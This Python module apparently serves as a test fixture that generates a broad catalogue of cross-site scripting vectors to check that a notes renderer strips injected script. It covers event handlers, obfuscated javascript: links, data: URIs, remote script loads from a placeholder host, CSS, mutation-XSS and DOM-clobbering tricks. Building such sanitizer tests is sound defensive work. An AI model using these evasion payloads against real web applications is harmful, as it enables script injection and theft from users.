"""
Notes that want to run or load something: every published class of script injection, put together from the parts in
`hostile_notes.txt`. `hit()` is what may never run, and `CANARY` a host that nobody may be sent to.
"""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from urllib.parse import quote

CANARY = "canary.invalid"
RUN = "hit()"
KEPT = "Rosa pays on Friday"
"""Words that a reader of each of these notes would see, and must go on seeing."""

REMOTE = f"https://{CANARY}/x"
MARKUP = f"<img src=x onerror={RUN}>"
PAGE = f"<script>{RUN}</script>"
DATA = (
    f"data:text/html,{html.escape(PAGE)}",
    "data:text/html;base64," + base64.b64encode(PAGE.encode()).decode(),
    "data:image/svg+xml," + quote(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"),
)
SECTION = re.compile(r"^\[([a-z ]+)\]\n", re.MULTILINE)
ESCAPED = re.compile(r"\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|.)")


@dataclass(frozen=True, slots=True)
class Vector:
    kind: str
    html: str


def written_out(line: str) -> str:
    return ESCAPED.sub(lambda escape: escape[0].encode().decode("unicode_escape"), line)


def read_parts() -> dict[str, list[str]]:
    _, *told = SECTION.split(Path(__file__).with_suffix(".txt").read_text("utf-8"))
    return {
        name: [written_out(line) for line in text.split("\n") if line]
        for name, text in zip(told[::2], told[1::2], strict=True)
    }


PARTS = read_parts()
ELEMENTS, EVENTS, CLOBBERED = (" ".join(PARTS[name]).split() for name in ("elements", "events", "clobbered"))
ADDRESSED = [line.split() for line in PARTS["addressed"]]

SCHEMES = ("javascript", "vbscript", "livescript", "mocha", "jscript")
COLONS = (":", "&colon;", "&#58;", "&#x3a;", "\t:", "\uff1a")
Spell = Callable[[str], str]
SPELLINGS: dict[str, Spell] = {
    "plain": lambda word: word,
    "upper": str.upper,
    "mixed": lambda word: "".join(c.upper() if n % 2 else c for n, c in enumerate(word)),
    "tabs": "\t".join,
    "newline": lambda word: f"{word[:4]}\n{word[4:]}",
    "return": lambda word: f"{word[:4]}\r\n{word[4:]}",
    "nul": lambda word: f"{word[:4]}\x00{word[4:]}",
    "control before": lambda word: f"\x01\x02\x1f {word}",
    "space before": lambda word: f" \t\n {word}",
    "no-break space before": lambda word: f"\u00a0{word}",
    "zero width": lambda word: f"\u200b{word[:4]}\ufeff{word[4:]}",
    "soft hyphen": lambda word: f"{word[:4]}\u00ad{word[4:]}",
    "full width": lambda word: "".join(chr(ord(c) + 0xFEE0) for c in word),
    "long s": lambda word: word.replace("s", "\u017f"),
    "decimal": lambda word: "".join(f"&#{ord(c)};" for c in word),
    "decimal, bare": lambda word: "".join(f"&#{ord(c)}" for c in word),
    "decimal, padded": lambda word: "".join(f"&#{ord(c):07}" for c in word),
    "hexadecimal": lambda word: "".join(f"&#x{ord(c):x};" for c in word),
    "hexadecimal, upper": lambda word: "".join(f"&#X{ord(c):X}" for c in word),
    "named tab": lambda word: f"{word[:3]}&Tab;{word[3:]}",
    "named newline": lambda word: f"&NewLine;{word}",
    "percent": lambda word: word.replace("a", "%61"),
    "url prefix": lambda word: f"URL:{word}",
    "view": lambda word: f"view-source:{word}",
    "feed": lambda word: f"feed:{word}",
    "twice escaped": lambda word: f"&amp;#106;{word[1:]}",
    "slashes": lambda word: f"//{word}",
    "backslash": lambda word: f"\\{word}",
}
RAW = (
    *("style", "script", "noscript", "title", "textarea", "xmp"),
    *("iframe", "noembed", "noframes", "template", "svg", "math"),
)
"""In which tags are text, or mean something else."""


def after_text(name: str) -> Iterator[str]:
    return (f"{KEPT}{markup}" for markup in PARTS[name])


def handlers() -> Iterator[str]:
    for number, event in enumerate(EVENTS):
        tag = ELEMENTS[number % len(ELEMENTS)]
        yield f"<{tag} on{event}={RUN} tabindex=1 autofocus contenteditable>{KEPT}</{tag}>"
    for tag in ("audio", "embed", "frameset", "iframe", "img", "input type=image", "link", "object", "svg", "video"):
        yield f"{KEPT}<{tag} src=x href=x data=x onload={RUN} onerror={RUN} onfocus={RUN} autofocus>"
    yield f"<body onload={RUN} onpageshow={RUN} onresize={RUN}>{KEPT}"
    yield from after_text("spelled handlers")


def links() -> Iterator[str]:
    addresses = [f"{spell('javascript')}:{RUN}" for spell in SPELLINGS.values()]
    addresses += [f"{scheme}{colon}{RUN}" for scheme, colon in product(SCHEMES, COLONS)]
    for address in (*addresses, *DATA, "", *PARTS["link addresses"]):
        yield f'<a href="{address}">{KEPT}</a>'
    for attribute in PARTS["link attributes"]:
        yield f"<a href='https://good.example/' {attribute}>{KEPT}</a>"


def loads() -> Iterator[str]:
    for (tag, attribute), address in product(ADDRESSED, (f"javascript:{RUN}", REMOTE)):
        yield f'{KEPT}<{tag} {attribute}="{address}" rel=stylesheet type=image autoplay></{tag}>'
    for place, address in product(("iframe src", "frame src", "object data", "embed src", "form action"), DATA):
        yield f'{KEPT}<{place}="{address}">'
    for relation in PARTS["link relations"]:
        yield f"{KEPT}<link rel='{relation}' as=script href='{REMOTE}'>"
    yield from after_text("loads")


def styles() -> Iterator[str]:
    for rule in PARTS["style rules"]:
        yield f'<p style="{rule}">{KEPT}</p>'
        yield f"{KEPT}<style>p{{{rule}}}</style>"
    for sheet in PARTS["style sheets"]:
        yield f"{KEPT}<style>{sheet}</style>"


def mutations() -> Iterator[str]:
    """What is harmless where it is read first, and something else where it is read again."""
    insides = [f'<{raw}><p title="</{raw}>{MARKUP}">z</p></{raw}>' for raw in RAW]
    insides += [
        f"<style><!--</style><a title='--&gt;{html.escape(MARKUP)}'>z</a>",
        f"<mglyph><style><math><img title='</math>{MARKUP}'></style></mglyph>",
        f"<![CDATA[<b title=']]>{MARKUP}'>z</b>]]>",
        MARKUP,
    ]
    for around, inside in product(PARTS["around"], insides):
        yield KEPT + around.replace("{}", inside)
    yield from after_text("mutations")


def clobbering() -> Iterator[str]:
    for number, name in enumerate(CLOBBERED):
        tag = ("a", "form", "img", "input", "object", "embed", "iframe", "map")[number % 8]
        yield f"{KEPT}<{tag} id={name} name={name} href='javascript:{RUN}'></{tag}>"
    yield f"{KEPT}<a id=config></a><a id=config name=url href='{REMOTE}'></a>"
    yield f"{KEPT}<form id=app><input name=attributes><input name=children></form>"


def furniture() -> Iterator[str]:
    """What would break out of the place that a note has in a page, or look like part of the page."""
    for closer, markup in product(PARTS["closers"], (MARKUP, PAGE)):
        yield f"{KEPT}{closer}{markup}"
    for attributes in PARTS["attributes"]:
        yield f"<div {attributes}>{KEPT}</div>"


def shapes() -> Iterator[str]:
    """What is broken, deep or large."""
    yield from after_text("shapes")
    for opening in ("b", "svg", "blockquote", "form", "a", "select", "template", "!--", "table", "p", "/p", "button"):
        yield KEPT + f"<{opening}>" * 300 + MARKUP
    for opening in ("<table><tr><td>", "<math><mtext>", "<svg><foreignObject>", "<ul><li>", "<b><i><u><p>"):
        yield KEPT + opening * 300 + MARKUP
    for large in (f"&{'a' * 2000};", f"<{'x' * 3000}>", f"<p {'y' * 3000}>", f"<p {'z ' * 30}>", f"<p {'z ' * 300}>"):
        yield f"{KEPT}{large}{MARKUP}"


KINDS: dict[str, Callable[[], Iterator[str]]] = {
    "handlers": handlers,
    "links": links,
    "loads": loads,
    "styles": styles,
    "mutations": mutations,
    "drawings": lambda: after_text("drawings"),
    "forms": lambda: after_text("forms"),
    "clobbering": clobbering,
    "furniture": furniture,
    "confusions": lambda: after_text("confusions"),
    "shapes": shapes,
}
VECTORS = [Vector(kind, html) for kind, make in KINDS.items() for html in dict.fromkeys(make())]
